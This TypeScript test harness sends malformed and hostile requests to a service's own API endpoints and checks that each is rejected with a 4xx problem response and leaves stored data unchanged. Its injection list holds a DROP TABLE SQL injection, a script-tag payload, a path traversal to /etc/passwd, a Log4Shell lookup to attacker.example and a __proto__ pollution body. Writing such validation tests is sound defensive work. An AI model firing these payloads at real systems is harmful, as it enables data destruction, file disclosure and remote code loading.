import { randomBytes } from 'node:crypto';
import { settledSnapshot, snapshotDifferences } from './state-snapshot';

/**
 * The bad-input campaign: from a description of each endpoint (a valid sample and the kind of
 * each field) it derives malformed, mistyped, missing, oversized, out-of-range and hostile
 * requests, sends them all and collects every answer that is not a 4xx problem+json.
 */

/**
 * quantity: a positive integer; count: a non-negative 32-bit integer; money: non-negative
 * integer minor units, 64-bit; enum: one of a closed set; uuid; date: a day (YYYY-MM-DD);
 * instant: an ISO 8601 time; id: an identifier or a coded value (pattern); text: free text, where SQL or markup is
 * legitimate content but a NUL is not; base64: bytes as base64; opaque: any string at all
 * (a Kafka key), attacked with wrong types only.
 */
export type FieldKind =
  | 'quantity'
  | 'count'
  | 'money'
  | 'enum'
  | 'uuid'
  | 'date'
  | 'instant'
  | 'id'
  | 'text'
  | 'base64'
  | 'opaque';

export interface EndpointUnderAttack {
  method: 'GET' | 'POST';
  /** With `:name` segments, filled from `params`. */
  path: string;
  /** A valid value and the kind of each path parameter. */
  params?: Record<string, { value: string; kind: 'uuid' | 'id' }>;
  /** The endpoint's (optional) query parameters and their kinds. */
  query?: Record<string, FieldKind>;
  /** A valid body; endpoints without one still get malformed and oversized bodies. */
  body?: Record<string, unknown>;
  /** Kinds by dotted path without array indexes (`lines.quantity`); other leaves are text. */
  fields?: Record<string, FieldKind>;
  /** Dotted paths (without indexes) that may be absent. */
  optional?: string[];
  /** Takes an Idempotency-Key: one too long to keep is sent with the valid request. */
  idempotent?: boolean;
  /** Headers for the exact bytes sent (a webhook's signature), so attacks reach validation. */
  sign?(rawBody: string): Record<string, string>;
}

export interface Attack {
  endpoint: string;
  name: string;
  method: string;
  path: string;
  rawBody?: string;
  contentType?: string;
  headers?: Record<string, string>;
  /** The one status this attack must get (413 for an oversized body); any 4xx otherwise. */
  expect?: number;
}

export interface CampaignFailure {
  endpoint: string;
  attack: string;
  status: number;
  contentType: string | null;
  body: string;
  reason: string;
}

export interface CampaignResult {
  attacks: number;
  endpoints: number;
  failures: CampaignFailure[];
}

const oversizedBytes = 2 * 1024 * 1024;

export const injectionStrings: Record<string, string> = {
  'SQL injection': "x' OR '1'='1'; DROP TABLE customer; --",
  'script injection': '<script>alert(1)</script>',
  'path traversal': '../../../../etc/passwd',
  'NUL byte': 'a\u0000b',
  'very long (10,000 chars)': 'A'.repeat(10_000),
  'log4shell lookup': '${jndi:ldap://attacker.example/x}',
};

// A path is limited by the server's header size; 2,000 characters still fit.
const pathInjections: Record<string, string> = {
  ...injectionStrings,
  'very long (10,000 chars)': 'A'.repeat(2_000),
  // A name every plain object answers to: a lookup table indexed by the parameter finds it.
  'prototype property name': 'constructor',
};

const badUuids: Record<string, string> = {
  'not a UUID': 'not-a-uuid',
  'a number': '12345',
  'UUID with a trailing character': '3f1c2d4e-5a6b-4c7d-8e9f-0a1b2c3d4e5fx',
  'UUID with a non-hex digit': '3f1c2d4e-5a6b-4c7d-8e9f-0a1b2c3d4e5g',
};

const absurdDays: Record<string, string> = {
  'year 0': '0000-01-01',
  'year 99999': '99999-01-01',
  "'yesterday'": 'yesterday',
  'February 30': '2026-02-30',
  'month 13': '2026-13-01',
};

const absurdInstants: Record<string, string> = {
  'year 0': '0000-01-01T00:00:00Z',
  'year 99999': '+099999-01-01T00:00:00Z',
  "'yesterday'": 'yesterday',
  'February 30': '2026-02-30T10:00:00Z',
  'hour 25': '2026-11-27T25:00:00Z',
};

const quantityValues: Record<string, unknown> = {
  negative: -1,
  zero: 0,
  fractional: 1.5,
  'over a 32-bit integer': 2_147_483_648,
  'over a safe integer': 1e20,
};

const countValues: Record<string, unknown> = {
  negative: -1,
  fractional: 0.5,
  'over a 32-bit integer': 2_147_483_648,
  'over a safe integer': 1e20,
};

function badValues(kind: FieldKind, sample: unknown): Record<string, unknown> {
  const hostile = Object.fromEntries(
    Object.entries(injectionStrings).map(([name, value]) => [`injection: ${name}`, value]),
  );
  switch (kind) {
    case 'quantity':
      return quantityValues;
    case 'count':
      return countValues;
    case 'money':
      return { negative: -1, fractional: 0.5, 'over a safe integer': 1e20 };
    case 'enum':
      return {
        'unknown enum value': 'NOT_A_VALUE',
        'enum value in lower case': String(sample).toLowerCase(),
        'empty string': '',
        ...hostile,
      };
    case 'uuid':
      return { ...badUuids, 'empty string': '', ...hostile };
    case 'date':
      return { ...absurdDays, 'empty string': '' };
    case 'instant':
      return { ...absurdInstants, 'empty string': '' };
    case 'id':
      return { 'empty string': '', ...hostile };
    case 'text':
      return { 'NUL byte in text': 'a\u0000b' };
    case 'base64':
      return {
        'not base64': 'not base64!',
        'injection: SQL injection': injectionStrings['SQL injection'],
        'injection: NUL byte': injectionStrings['NUL byte'],
      };
    case 'opaque':
      return {};
  }
}

function wrongTypes(sample: unknown): Record<string, unknown> {
  if (Array.isArray(sample)) return { 'a string for an array': 'x', 'an object for an array': {} };
  if (sample !== null && typeof sample === 'object') {
    return { 'a string for an object': 'x', 'an array for an object': [] };
  }
  if (typeof sample === 'number') {
    return { 'a numeric string': String(sample), 'a boolean': true, 'an array': [sample] };
  }
  return { 'a number': 42, 'a boolean': true, 'an array': [sample], 'an object': {} };
}

const stripIndexes = (path: string[]) => path.filter((p) => !/^\d+$/.test(p)).join('.');

/** Every path of a JSON value, containers first, with the value found there. */
function paths(value: unknown, prefix: string[] = []): { path: string[]; value: unknown }[] {
  const own = prefix.length ? [{ path: prefix, value }] : [];
  if (value === null || typeof value !== 'object') return own;
  const children = Object.entries(value as Record<string, unknown>).flatMap(([key, child]) =>
    paths(child, [...prefix, key]),
  );
  return [...own, ...children];
}

function withValue(body: unknown, path: string[], value: unknown, remove = false): unknown {
  const copy = structuredClone(body) as Record<string, unknown>;
  let node: Record<string, unknown> = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string, unknown>;
  const last = path[path.length - 1];
  if (remove) {
    if (Array.isArray(node)) node.splice(Number(last), 1);
    else delete node[last];
  } else node[last] = value;
  return copy;
}

function fillPath(e: EndpointUnderAttack, override: Record<string, string> = {}): string {
  return e.path.replace(/:([A-Za-z]+)/g, (_, name: string) =>
    encodeURIComponent(override[name] ?? e.params?.[name]?.value ?? ''),
  );
}

function bodyShapeAttacks(e: EndpointUnderAttack, base: Omit<Attack, 'name'>): Attack[] {
  const shapes: Attack[] = [
    { ...base, name: 'malformed JSON: truncated', rawBody: '{"a": ' },
    { ...base, name: 'malformed JSON: single quotes', rawBody: "{'a': 1}" },
    { ...base, name: 'malformed JSON: trailing comma', rawBody: '{"a": 1,}' },
    {
      ...base,
      name: 'unsupported charset',
      rawBody: '{}',
      contentType: 'application/json; charset=ebcdic',
    },
    {
      ...base,
      name: 'body over the limit (2 MB)',
      rawBody: JSON.stringify({ padding: 'x'.repeat(oversizedBytes) }),
      expect: 413,
    },
  ];
  if (!e.body) return shapes;
  return [
    ...shapes,
    { ...base, name: 'body is an array', rawBody: '[]' },
    { ...base, name: 'body is a JSON string', rawBody: '"text"' },
    { ...base, name: 'body is null', rawBody: 'null' },
    { ...base, name: 'empty body', rawBody: '' },
    { ...base, name: 'form-encoded body', rawBody: 'a=1', contentType: 'text/plain' },
    {
      ...base,
      name: 'unknown property',
      rawBody: JSON.stringify({ ...e.body, isAdmin: true }),
    },
    {
      ...base,
      name: 'prototype pollution (__proto__)',
      rawBody: JSON.stringify(e.body).replace(/^\{/, '{"__proto__": {"isAdmin": true},'),
    },
  ];
}

function fieldAttacks(e: EndpointUnderAttack, base: Omit<Attack, 'name'>): Attack[] {
  const optional = new Set(e.optional ?? []);
  return paths(e.body).flatMap(({ path, value }) => {
    const key = stripIndexes(path);
    const label = path.join('.');
    const send = (name: string, body: unknown): Attack => ({
      ...base,
      name: `${label}: ${name}`,
      rawBody: JSON.stringify(body),
    });
    const isLeaf = value === null || typeof value !== 'object';
    const kind = e.fields?.[key] ?? (typeof value === 'number' ? 'count' : 'text');
    const attacks = Object.entries(wrongTypes(value)).map(([name, bad]) =>
      send(`wrong type, ${name}`, withValue(e.body, path, bad)),
    );
    // Without one element of several, an array is still valid: elements are not removed.
    const isElement = /^\d+$/.test(path[path.length - 1]);
    if (!optional.has(key) && !isElement) {
      attacks.push(send('missing', withValue(e.body, path, undefined, true)));
      attacks.push(send('null', withValue(e.body, path, null)));
    }
    if (Array.isArray(value)) attacks.push(send('empty array', withValue(e.body, path, [])));
    if (isLeaf) {
      for (const [name, bad] of Object.entries(badValues(kind, value))) {
        attacks.push(send(name, withValue(e.body, path, bad)));
      }
    }
    return attacks;
  });
}

function paramAttacks(e: EndpointUnderAttack, base: Omit<Attack, 'name'>): Attack[] {
  return Object.entries(e.params ?? {}).flatMap(([name, { kind }]) => {
    const values = {
      ...(kind === 'uuid' ? badUuids : {}),
      ...Object.fromEntries(Object.entries(pathInjections).map(([n, v]) => [`injection: ${n}`, v])),
    };
    return Object.entries(values).map(([attack, value]) => ({
      ...base,
      name: `path :${name}: ${attack}`,
      path: fillPath(e, { [name]: value }),
    }));
  });
}

function queryAttacks(e: EndpointUnderAttack, base: Omit<Attack, 'name'>): Attack[] {
  const path = fillPath(e);
  return Object.entries(e.query ?? {}).flatMap(([name, kind]) => {
    const values = badValues(kind, 'ACTIVE');
    // An empty free-text, identifier or cursor filter is no filter.
    if (kind === 'text' || kind === 'id') delete values['empty string'];
    const single = Object.entries(values).map(([attack, value]) => ({
      ...base,
      name: `query ${name}: ${attack}`,
      path: `${path}?${new URLSearchParams({ [name]: String(value) })}`,
    }));
    return [
      ...single,
      {
        ...base,
        name: `query ${name}: given twice (an array)`,
        path: `${path}?${name}=a&${name}=b`,
      },
      { ...base, name: `query ${name}: an object`, path: `${path}?${name}[a]=b` },
    ];
  });
}

/** Every attack on one endpoint. */
export function attacksOn(e: EndpointUnderAttack): Attack[] {
  const endpoint = `${e.method} ${e.path}`;
  const base = { endpoint, method: e.method, path: fillPath(e) };
  const valid = e.body === undefined ? undefined : JSON.stringify(e.body);
  const withValidBody = { ...base, rawBody: valid };
  return [
    ...(e.method === 'GET' ? [] : bodyShapeAttacks(e, base)),
    ...(e.body ? fieldAttacks(e, base) : []),
    ...paramAttacks(e, e.method === 'GET' ? base : withValidBody),
    ...queryAttacks(e, base),
    ...(e.idempotent
      ? [
          {
            ...withValidBody,
            name: 'Idempotency-Key of 10,000 characters',
            // Random, so PostgreSQL cannot compress it under its index entry limit (~2.7 kB).
            headers: { 'idempotency-key': randomBytes(5_000).toString('hex') },
          },
        ]
      : []),
  ];
}

/** Why an answer is not a 4xx problem document, or undefined when it is one. */
function verdict(attack: Attack, status: number, contentType: string | null, text: string) {
  if (status === 401 || status === 403 || status === 429) {
    return `stopped before the endpoint (${status}): authentication or rate limit hides the attack`;
  }
  if (attack.expect !== undefined && status !== attack.expect) {
    return `expected ${attack.expect}`;
  }
  if (status < 400 || status > 499) return 'not a 4xx';
  if (!contentType?.startsWith('application/problem+json')) return 'not application/problem+json';
  let body: Record<string, unknown>;
  try {
    body = JSON.parse(text);
  } catch {
    return 'body is not JSON';
  }
  if (body.status !== status || typeof body.code !== 'string' || typeof body.detail !== 'string') {
    return 'problem without status, code or detail';
  }
  return undefined;
}

async function send(
  baseUrl: string,
  headers: Record<string, string>,
  e: EndpointUnderAttack,
  a: Attack,
) {
  const raw = a.rawBody;
  const response = await fetch(`${baseUrl}${a.path}`, {
    method: a.method,
    headers: {
      ...(raw === undefined ? {} : { 'content-type': a.contentType ?? 'application/json' }),
      ...headers,
      ...a.headers,
      ...(raw === undefined || !e.sign ? {} : e.sign(raw)),
    },
    body: raw,
  });
  return {
    status: response.status,
    contentType: response.headers.get('content-type'),
    text: await response.text(),
  };
}

async function inParallel<T>(items: T[], width: number, run: (item: T) => Promise<void>) {
  let next = 0;
  const worker = async () => {
    while (next < items.length) await run(items[next++]);
  };
  await Promise.all(Array.from({ length: width }, worker));
}

/**
 * Sends every attack on every endpoint (a few at a time) and returns all failures together;
 * `headers` go on every request (the API key).
 */
export async function runBadInputCampaign(o: {
  baseUrl: string;
  headers?: Record<string, string>;
  endpoints: EndpointUnderAttack[];
  concurrency?: number;
}): Promise<CampaignResult> {
  const failures: CampaignFailure[] = [];
  const planned = o.endpoints.flatMap((e) => attacksOn(e).map((attack) => ({ e, attack })));
  await inParallel(planned, o.concurrency ?? 4, async ({ e, attack }) => {
    const record = (status: number, contentType: string | null, body: string, reason: string) =>
      failures.push({
        endpoint: attack.endpoint,
        attack: attack.name,
        status,
        contentType,
        body: body.slice(0, 300),
        reason,
      });
    try {
      const answer = await send(o.baseUrl, o.headers ?? {}, e, attack);
      const reason = verdict(attack, answer.status, answer.contentType, answer.text);
      if (reason) record(answer.status, answer.contentType, answer.text, reason);
    } catch (error) {
      record(0, null, String((error as Error).cause ?? error), 'request failed');
    }
  });
  return { attacks: planned.length, endpoints: o.endpoints.length, failures };
}

/** The failures as one readable report, one line each. */
export function describeFailures(failures: CampaignFailure[]): string {
  return failures
    .map(
      (f) =>
        `${f.endpoint} | ${f.attack} -> ${f.status} ${f.contentType ?? '-'} (${f.reason}): ${f.body}`,
    )
    .join('\n');
}

/** The API key header when the service under test has one; the campaign's only auth input. */
export function apiKeyHeaders(service: object): Record<string, string> {
  const key = (service as { apiKey?: unknown }).apiKey;
  return typeof key === 'string' && key ? { 'x-api-key': key } : {};
}

/**
 * The whole check on one service: a settled snapshot of its tables and topics, the campaign,
 * another settled snapshot. Empty `failures` and `changes` mean every attack got a 4xx problem
 * and nothing was stored or published.
 */
export async function campaignAgainstService(o: {
  baseUrl: string;
  databaseUrl: string;
  /** The service's own topics and dead letters (its copies in a test). */
  topics: string[];
  headers?: Record<string, string>;
  endpoints: EndpointUnderAttack[];
}): Promise<CampaignResult & { report: string; changes: string[] }> {
  const before = await settledSnapshot(o.databaseUrl, o.topics);
  const result = await runBadInputCampaign(o);
  const after = await settledSnapshot(o.databaseUrl, o.topics);
  return {
    ...result,
    report: describeFailures(result.failures),
    changes: snapshotDifferences(before, after),
  };
}
